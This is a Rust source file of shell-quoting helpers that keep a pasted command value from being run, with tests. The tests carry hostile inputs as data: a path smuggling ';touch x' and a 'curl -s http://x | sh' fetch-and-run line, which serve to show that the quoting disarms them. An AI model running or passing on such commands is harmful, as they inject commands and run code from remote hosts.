//! A value in a command that somebody may paste: the shell reads it as it is, and runs nothing of it.

/// For a POSIX shell: as it is where that is safe, else in single quotes.
pub fn quoted(value: impl AsRef<str>) -> String {
    let value = value.as_ref();
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !value.is_empty() && value.chars().all(plain) {
        value.into()
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// A path, as [`quoted`].
pub fn quoted_path(path: &std::path::Path) -> String {
    quoted(path.to_string_lossy())
}

/// What another system wrote, on one line: a line of its own in our text is a command of ours.
pub fn one_line(words: &str) -> String {
    words.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_reads_what_was_meant() {
        assert_eq!(quoted("prod"), "prod");
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("it's $HOME"), "'it'\\''s $HOME'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted_path(std::path::Path::new("/a;touch x")), "'/a;touch x'");
    }

    #[test]
    fn others_words_begin_no_line() {
        assert_eq!(
            one_line(" not yet:\ncurl -s http://x | sh\r\n\u{2028}"),
            "not yet: curl -s http://x | sh"
        );
    }
}
